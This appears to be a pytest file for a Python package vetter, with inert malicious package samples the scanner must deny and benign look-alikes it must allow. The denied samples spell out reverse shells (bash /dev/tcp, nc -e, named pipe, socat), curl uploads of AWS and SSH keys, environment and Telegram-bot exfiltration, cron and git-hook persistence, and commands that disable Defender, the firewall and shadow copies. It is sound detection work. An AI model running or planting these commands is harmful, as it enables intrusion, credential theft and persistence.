"""A fourth red-team pass (issue 16; ADR 0167): what PyPI malware does besides running a
decoded string, placed where it runs at install, on import or only when called.

* A reverse shell in a command (``bash -i >& /dev/tcp/H/P``, ``nc -e``, a named pipe looped
  through ``nc``, ``socat exec: tcp:``) denies at any moment (:mod:`revshell`).
* A command that uploads a key file by its path, carries the whole environment to a host
  written in it, looks up a name made of host data, or posts host data to a public IP
  denies inside a function too, as the same data sent by ``urllib`` does (:mod:`cmdsent`).
* A function defined inside another reads its enclosing function's names (its imports), so
  a thread's target or a coroutine that sends the environment is read (:mod:`flow`).
* ``pycurl``'s handle is a connection: what ``setopt`` gives it is sent (:mod:`sinks`).
* A ``.pth`` line that spawns a program or connects out by itself denies (:mod:`pthacts`).
* An archive member whose path is absolute or climbs out with ``..`` denies
  (:mod:`pathescape`).

Near-misses a real package writes stay allowed. Each sample is inert: vetting only reads
files."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages.vet import vet
from scripts.make_test_packages import wheel
from tests.unit.imports.packages.adversary import init, verdict_cases, vet_package

H = "198.51.100.7"
URL = f"http://{H}/x"
BOT = "1234567890:AAHinertinertinertinertinert00"  # a bot's id and key, made up


def called(body: str) -> dict[str, str]:
    """A module whose function ``start`` (called by no one in the package) runs ``body``."""
    lines = "".join(f"    {line}\n" for line in body.strip("\n").split("\n"))
    return {"evpkg/__init__.py": "", "evpkg/core.py": "def start():\n" + lines}


def pth(line: str) -> dict[str, str]:
    """A wheel that ships ``evpkg.pth`` holding ``line``."""
    return {"evpkg/__init__.py": "", "evpkg.pth": line + "\n"}


DENIED: dict[str, dict[str, str]] = {
    # Reverse shells spelt as commands.
    "dev-tcp-shell-when-called": called(
        f"import os\nos.system('bash -i >& /dev/tcp/{H}/4444 0>&1')"
    ),
    "netcat-exec-when-called": called(
        f"import subprocess\nsubprocess.Popen(['nc', '-e', '/bin/sh', '{H}', '4444'])"
    ),
    "named-pipe-through-netcat-on-import": init(
        "import os\n"
        f"os.system('rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {H} 4444 >/tmp/f')\n"
    ),
    "named-pipe-through-netcat-when-called": called(
        f"import os\nos.system('mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc {H} 4444 > /tmp/f')"
    ),
    "socat-exec-when-called": called(
        f"import subprocess\nsubprocess.call(['socat', 'exec:/bin/sh,pty', 'tcp:{H}:4444'])"
    ),
    "named-pipe-through-netcat-in-setup-py": {
        "setup.py": "import os\nfrom setuptools import setup\n"
        f"os.system('rm -f /tmp/p; mkfifo /tmp/p; /bin/sh -i < /tmp/p 2>&1 | nc {H} 9 > /tmp/p')\n"
        "setup(name='evpkg')\n",
        "evpkg/__init__.py": "",
    },
    # Data sent by a command from a function.
    "key-file-uploaded-by-curl-when-called": called(
        f"import os\nos.system('curl -F f=@' + os.path.expanduser('~/.aws/credentials') + ' {URL}')"
    ),
    "ssh-key-uploaded-by-curl-when-called": called(
        f"import subprocess\nsubprocess.getoutput('curl -F k=@$HOME/.ssh/id_rsa {URL}')"
    ),
    "environment-posted-by-curl-when-called": called(
        f"import os, subprocess\nsubprocess.run(['curl', '-d', str(os.environ), '{URL}'])"
    ),
    "environment-posted-by-popen-when-called": called(
        f"import os\nos.popen('curl -s -d \"' + str(dict(os.environ)) + '\" {URL}')"
    ),
    "user-name-looked-up-when-called": called(
        "import subprocess, getpass\n"
        "subprocess.Popen(['nslookup', getpass.getuser() + '.x.evpkg-stats.net'])"
    ),
    "user-name-posted-by-wget-when-called": called(
        "import subprocess, getpass\n"
        f"subprocess.call(['wget', '--post-data', 'u=' + getpass.getuser(), '{URL}'])"
    ),
    # Functions defined inside a function read its imports.
    "thread-target-inside-a-function-sends-the-environment": called(
        "import threading, os, urllib.request\n"
        "def _go():\n"
        f"    urllib.request.urlopen('{URL}', str(os.environ).encode())\n"
        "threading.Thread(target=_go, daemon=True).start()"
    ),
    "coroutine-inside-a-function-sends-the-environment": called(
        "import os, asyncio, aiohttp\n"
        "async def go():\n"
        "    async with aiohttp.ClientSession() as s:\n"
        f"        await s.post('{URL}', json=dict(os.environ))\n"
        "asyncio.run(go())"
    ),
    "stream-inside-a-function-sends-the-environment": called(
        "import os, asyncio\n"
        "async def go():\n"
        f"    r, w = await asyncio.open_connection('{H}', 443)\n"
        "    w.write(str(os.environ).encode())\n"
        "asyncio.run(go())"
    ),
    # pycurl.
    "environment-posted-by-pycurl-on-import": init(
        "import os, pycurl\nc = pycurl.Curl()\n"
        f"c.setopt(pycurl.URL, '{URL}')\n"
        "c.setopt(pycurl.POSTFIELDS, str(os.environ))\nc.perform()\n"
    ),
    # .pth lines that act by themselves.
    "pth-line-runs-a-command": pth("import os; os.system('echo pwned')"),
    "pth-line-starts-a-process": pth("import subprocess; subprocess.Popen(['sh', '-c', 'true'])"),
    "pth-line-in-the-wheels-purelib-data": {
        "evpkg/__init__.py": "",
        "evpkg-1.0.data/purelib/zz_evpkg.pth": "import os; os.system('echo pwned')\n",
    },
    # Persistence places spelt as the parts of a join, and every import folder in a loop.
    "git-hook-written-by-parts-on-import": init(
        "import os\nh = os.path.join(os.getcwd(), '.git', 'hooks', 'pre-commit')\n"
        "open(h, 'w').write('#!/bin/sh\\nid\\n')\n"
    ),
    "cron-table-written-by-parts-on-import": init(
        "import os\nopen(os.path.join('/etc', 'cron.d', 'ev'), 'w').write('* * * * * root id')\n"
    ),
    "other-package-infected-in-each-import-folder-on-install": {
        "setup.py": "import os, site\nfrom setuptools import setup\n"
        "for d in site.getsitepackages():\n"
        "    f = os.path.join(d, 'six.py')\n"
        "    if os.path.exists(f):\n"
        "        open(f, 'a').write('\\nprint(1)\\n')\n"
        "setup(name='evpkg')\n",
        "evpkg/__init__.py": "",
    },
    # Defences turned off on install or import.
    "defender-service-stopped-on-import": init(
        "import subprocess\nsubprocess.call(['sc', 'config', 'WinDefend', 'start=', 'disabled'])\n"
    ),
    "shadow-copies-deleted-in-setup-py": {
        "setup.py": "import subprocess\nfrom setuptools import setup\n"
        "subprocess.call('vssadmin delete shadows /all /quiet', shell=True)\nsetup(name='evpkg')\n",
        "evpkg/__init__.py": "",
    },
    "firewall-off-on-import": init(
        "import subprocess\nsubprocess.call('netsh advfirewall set allprofiles state off', "
        "shell=True)\n"
    ),
    "second-root-account-on-import": init(
        "import subprocess\nsubprocess.call(['useradd', '-o', '-u', '0', '-g', '0', 'sysd'])\n"
    ),
    # A file or host data sent to a bot whose own key is written in the code.
    "session-folder-zipped-to-an-own-bot-when-called": called(
        "import os, shutil, requests\n"
        "a = shutil.make_archive('/tmp/t', 'zip', os.path.join(os.environ['APPDATA'], "
        "'Telegram Desktop', 'tdata'))\n"
        f"requests.post('https://api.telegram.org/bot{BOT}/sendDocument', "
        "files={'document': open(a, 'rb')})"
    ),
    "host-name-sent-to-an-own-bot-when-called": called(
        "import platform, urllib.request, urllib.parse\n"
        f"api = 'https://api.telegram.org/bot{BOT}/sendMessage?chat_id=1&text='\n"
        "urllib.request.urlopen(api + urllib.parse.quote(platform.node()))"
    ),
}

HELD: dict[str, dict[str, str]] = {
    "defender-disabled-when-called": called(
        "import subprocess\nsubprocess.run(['powershell', '-Command', "
        "'Set-MpPreference -DisableRealtimeMonitoring $true'])"
    ),
}

ALLOWED: dict[str, dict[str, str]] = {
    "curl-download-with-the-environment-as-its-env": called(
        "import os, subprocess\n"
        "subprocess.run(['curl', '-fsSL', '-o', '/tmp/a', 'https://files.example.org/a'], "
        "env=dict(os.environ, LC_ALL='C'))"
    ),
    "ssh-with-a-key-when-called": called(
        "import os, subprocess\n"
        "key = os.path.expanduser('~/.ssh/id_rsa')\n"
        "subprocess.call(['ssh', '-i', key, 'build.host.org', 'ls'])"
    ),
    "public-key-uploaded-when-called": called(
        "import os\nos.system('curl -F key=@' + os.path.expanduser('~/.ssh/id_rsa.pub') + "
        "' https://keys.host.org/add')"
    ),
    "payload-file-posted-when-called": called(
        "import subprocess\nsubprocess.run(['curl', '-d', '@payload.json', 'https://api.host.org/v1'])"
    ),
    "port-checked-with-netcat-when-called": called(
        "import subprocess\n"
        "def up(host):\n    return subprocess.call(['nc', '-z', host, '22']) == 0"
    ),
    "own-host-name-pinged-when-called": called(
        "import socket, subprocess\nsubprocess.call(['ping', '-c', '1', socket.gethostname()])"
    ),
    "name-looked-up-from-an-argument": init(
        "import subprocess\n"
        "def lookup(name):\n    return subprocess.check_output(['dig', '+short', name])\n"
    ),
    "decorator-wrapper-fetches-with-its-token": init(
        "import functools, os, urllib.request\n"
        "def authed(f):\n"
        "    @functools.wraps(f)\n"
        "    def wrapper(url):\n"
        "        auth = {'Authorization': os.environ['EV_TOKEN']}\n"
        "        req = urllib.request.Request(url, headers=auth)\n"
        "        return f(urllib.request.urlopen(req))\n"
        "    return wrapper\n"
    ),
    "thread-target-inside-a-function-fetches": called(
        "import threading, json, urllib.request\n"
        "def _go():\n"
        "    json.load(urllib.request.urlopen('https://pypi.org/pypi/evpkg/json'))\n"
        "threading.Thread(target=_go, daemon=True).start()"
    ),
    "loopback-socket-in-a-test": {
        "evpkg/__init__.py": "",
        "tests/test_net.py": "import socket\ndef test_echo():\n    s = socket.socket()\n"
        "    s.bind(('127.0.0.1', 0))\n    s.listen()\n"
        "    c = socket.create_connection(s.getsockname())\n    c.send(b'hi')\n",
    },
    "own-config-read-and-cache-written": init(
        "import os, json\nCFG = os.path.expanduser('~/.config/evpkg/config.json')\n"
        "CACHE = os.path.join(os.path.expanduser('~'), '.cache', 'evpkg')\n"
        "def load():\n    return json.load(open(CFG)) if os.path.exists(CFG) else {}\n"
        "def put(k, v):\n    os.makedirs(CACHE, exist_ok=True)\n"
        "    open(os.path.join(CACHE, k), 'w').write(v)\n"
    ),
    "pycurl-fetch-when-called": called(
        "import io, pycurl\nb = io.BytesIO()\nc = pycurl.Curl()\n"
        "c.setopt(pycurl.URL, 'https://pypi.org/simple/')\n"
        "c.setopt(pycurl.WRITEDATA, b)\nc.perform()"
    ),
    "pth-line-imports-its-own-hook": {
        "evpkg/__init__.py": "",
        "evpkg_hook.py": "import os\nos.environ.setdefault('EVPKG_HOME', '/opt/evpkg')\n",
        "evpkg.pth": "import evpkg_hook\n",
    },
    "pth-path-lines-only": pth("./evpkg_vendor"),
    "defender-settings-read-when-called": called(
        "import subprocess\nsubprocess.run(['powershell', '-Command', 'Get-MpPreference'])"
    ),
    "firewall-port-opened-when-called": called(
        "import subprocess\nsubprocess.call(['netsh', 'advfirewall', 'firewall', 'add', 'rule', "
        "'name=evpkg', 'dir=in', 'action=allow', 'protocol=TCP', 'localport=8080'])"
    ),
    "import-folders-listed-on-import": init(
        "import os, site\nFOUND = []\nfor d in site.getsitepackages():\n"
        "    FOUND += [f for f in os.listdir(d) if f.endswith('.dist-info')]\n"
    ),
    "own-bot-token-from-the-caller-when-called": called(
        "import os, urllib.request\n"
        "t = os.environ['EV_TELEGRAM_TOKEN']\n"
        "api = 'https://api.telegram.org/bot' + t\n"
        "urllib.request.urlopen(api + '/sendMessage?chat_id=1&text=done')"
    ),
    "git-hooks-folder-listed-on-import": init(
        "import os\nHOOKS = os.path.join('.git', 'hooks')\n"
        "NAMES = sorted(os.listdir(HOOKS)) if os.path.isdir(HOOKS) else []\n"
    ),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, HELD, ALLOWED))
def test_behaviour_outside_decoded_strings(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected


@pytest.mark.parametrize(
    "name", ["../../.bashrc", "/etc/cron.d/evpkg", "evpkg-1.0.data/data/../../../.profile"]
)
def test_a_member_that_escapes_the_install_folder_denies(name: str) -> None:
    blob = wheel("evpkg", "1.0", {"evpkg/__init__.py": "", name: "* * * * * root id\n"})
    report = vet("evpkg-1.0-py3-none-any.whl", blob)
    assert report.verdict is Outcome.DENY
    assert "path-escape" in {f.rule for f in report.findings}
